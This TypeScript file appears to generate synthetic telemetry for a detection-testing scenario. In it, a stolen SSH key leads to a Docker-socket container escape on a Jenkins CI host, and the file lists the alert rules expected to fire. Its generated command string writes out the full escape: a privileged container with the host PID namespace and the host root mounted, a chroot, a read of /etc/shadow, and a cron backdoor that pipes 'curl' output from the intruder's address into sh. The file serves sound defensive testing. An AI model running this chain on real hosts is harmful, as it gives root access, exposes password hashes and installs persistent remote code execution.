import { Clock, need, type Story, type StoryKit } from './kit.js';
import { RULES, SIGMA } from './rules.js';

/**
 * A developer's stolen SSH key on a Jenkins build host with Docker-in-Docker: the intruder (not a
 * sudoer) starts a privileged container with the Docker socket mounted, then uses it to run a
 * second privileged container, from an image nobody signed, in the host's PID namespace with the
 * host's root filesystem, chroots into the host and plants a cron backdoor. Vigil's container
 * watcher reports both containers' settings and the unsigned image; a container-aware endpoint
 * sensor sees the cron file written from inside the second container.
 */
function play(kit: StoryKit) {
  const { r, world, lin, flat } = kit;
  const host = need(world.reserveHost(r, ['ci']), 'Linux CI hosts');
  const user = need(world.reserveLinuxUser(r), 'Linux accounts');
  const clock = new Clock(r, kit.start);
  const from = world.vpnAddress();
  const port = r.int(40000, 65000);
  const sshdPid = lin.pid(host);
  const auth = (message: string, facility = 'authpriv') =>
    lin.syslog(clock.step(0, 1), host, { facility, app: 'sshd', pid: sshdPid, message });
  auth(
    `Accepted publickey for ${user.name} from ${from} port ${port} ssh2: ED25519 SHA256:${r.upper(43)}`,
    'auth',
  );
  auth(`pam_unix(sshd:session): session opened for user ${user.name}(uid=${user.uid}) by (uid=0)`);
  const listener = lin.running(
    host,
    '/usr/sbin/sshd',
    'sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups',
    'root',
    0,
    kit.start - 5 * 86_400_000,
  );
  const priv = lin.exec(clock.step(0, 1), listener, '/usr/sbin/sshd', `sshd: ${user.name} [priv]`);
  const session = lin.exec(clock.step(0, 1), priv, '/usr/sbin/sshd', `sshd: ${user.name}@pts/0`, {
    user: user.name,
    uid: user.uid,
  });
  const bash = lin.exec(clock.step(0, 1), session, '/usr/bin/bash', '-bash', { cwd: `/home/${user.name}` });

  lin.exec(clock.step(5, 30), bash, '/usr/bin/id', 'id');
  lin.syslog(clock.step(5, 40), host, {
    facility: 'authpriv',
    severity: 'notice',
    app: 'sudo',
    pid: null,
    message: `${user.name} : user NOT in sudoers ; TTY=pts/0 ; PWD=/home/${user.name} ; USER=root ; COMMAND=/bin/bash`,
  });
  lin.exec(clock.t, bash, '/usr/bin/sudo', 'sudo -i');
  lin.exec(clock.step(10, 60), bash, '/usr/bin/docker', 'docker ps');

  const name = `ci-cache-${r.hex(4)}`;
  const image = r.pick(['docker:24-cli', 'docker:25.0-cli', 'docker:24.0.7-cli']);
  lin.exec(
    clock.step(20, 120),
    bash,
    '/usr/bin/docker',
    `docker run -d --name ${name} --privileged -v /var/run/docker.sock:/var/run/docker.sock ${image} sleep infinity`,
  );
  const outer = flat.container(host, image, name);
  flat.docker(clock.step(0, 1), outer, 'create');
  flat.watched(
    clock.t,
    outer,
    { Privileged: true, Binds: ['/var/run/docker.sock:/var/run/docker.sock'] },
    { status: 'verified', reason: 'signed by docker-official' },
  );
  flat.docker(clock.step(0, 1), outer, 'start');

  const inner = flat.container(
    host,
    `registry.northwind.internal/ci/${r.pick(['build-cache', 'gradle-cache', 'npm-mirror'])}:latest`,
    `${r.pick(['eager', 'quirky', 'brave', 'jolly'])}_${r.pick(['hopper', 'turing', 'curie', 'lovelace'])}`,
  );
  lin.exec(
    clock.step(30, 300),
    bash,
    '/usr/bin/docker',
    `docker exec ${name} docker run --rm --privileged --pid=host -v /:/host ${inner.image} chroot /host /bin/sh -c "id; cat /etc/shadow | head -n 3; echo '*/5 * * * * root curl -fsSL http://${from}:8443/u | sh' > /etc/cron.d/x"`,
  );
  flat.docker(clock.step(1, 2), inner, 'create');
  flat.watched(
    clock.t,
    inner,
    { Privileged: true, PidMode: 'host', Binds: ['/:/host'] },
    { status: 'unsigned', reason: `no signature for ${inner.image}` },
  );
  flat.docker(clock.step(0, 1), inner, 'start');
  flat.containerFile(
    clock.step(1, 3),
    inner,
    `/etc/cron.d/${r.pick(['apt-compat2', 'e2scrub-all', 'sysstat2'])}`,
    '/bin/busybox',
    r.int(20000, 60000),
  );
  flat.docker(clock.step(1, 3), inner, 'die', 0);
  flat.docker(clock.step(0, 1), inner, 'destroy');
  lin.syslog(clock.step(60, 600), host, {
    facility: 'auth',
    app: 'sshd',
    pid: sshdPid,
    message: `Received disconnect from ${from} port ${port}:11: disconnected by user`,
  });
  auth(`pam_unix(sshd:session): session closed for user ${user.name}`);
  return { hosts: [host] };
}

export const containerEscape: Story = {
  name: 'container-escape',
  title: 'Privileged container with the Docker socket, used to mount the host and chroot into it',
  expectedRules: [
    RULES.privilegedContainer,
    RULES.containerHostControl,
    RULES.unsignedImage,
    RULES.hostPersistenceFromContainer,
    SIGMA.linuxAccountsDiscovery,
  ],
  play,
};
